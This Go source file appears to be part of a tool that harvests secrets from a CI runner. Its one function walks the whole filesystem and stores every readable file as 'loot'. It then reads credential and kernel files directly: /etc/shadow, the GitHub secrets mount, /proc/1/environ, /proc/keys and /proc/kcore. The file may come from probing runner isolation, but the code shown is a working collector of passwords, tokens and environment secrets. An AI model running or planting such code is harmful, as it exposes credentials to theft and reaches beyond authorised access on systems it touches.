package main

import (
	"os"
	"path/filepath"
	"strings"
)

// Not looked through: the kernel's folders, which have attacks of their own, and what the image brings and no secret can be in.
var skipped = []string{"/proc", "/sys", "/usr/share", "/usr/lib", "/usr/bin", "/usr/sbin", "/usr/include", "/opt", "/lib", "/lib64", "/bin", "/sbin", "/loot", "/hostile", "/var/lib/dpkg", "/usr/local/lib/node_modules", "/home/runner/externals"}

// files reads every file that the job may read.
func files(l *loot) {
	_ = filepath.WalkDir("/", func(path string, entry os.DirEntry, err error) error {
		if err != nil {
			l.count("folders that cannot be read")
			return nil
		}
		for _, prefix := range skipped {
			if path == prefix {
				if entry.IsDir() {
					return filepath.SkipDir
				}
				return nil
			}
		}
		if entry.IsDir() || entry.Type()&os.ModeDevice != 0 {
			return nil
		}
		l.count("files")
		if strings.HasPrefix(path, "/dev/") && !strings.HasPrefix(path, "/dev/shm/") {
			return nil
		}
		if data := read(path); data != nil {
			l.count("files that were read")
			l.keep(path, data)
		}
		return nil
	})
	for _, path := range []string{"/run/secrets/github", "/etc/shadow", "/proc/1/environ", "/proc/self/mountinfo", "/proc/keys", "/proc/kcore", "/proc/sched_debug"} {
		l.count("files")
		if data := read(path); data != nil {
			l.keep(path, data)
		}
	}
}
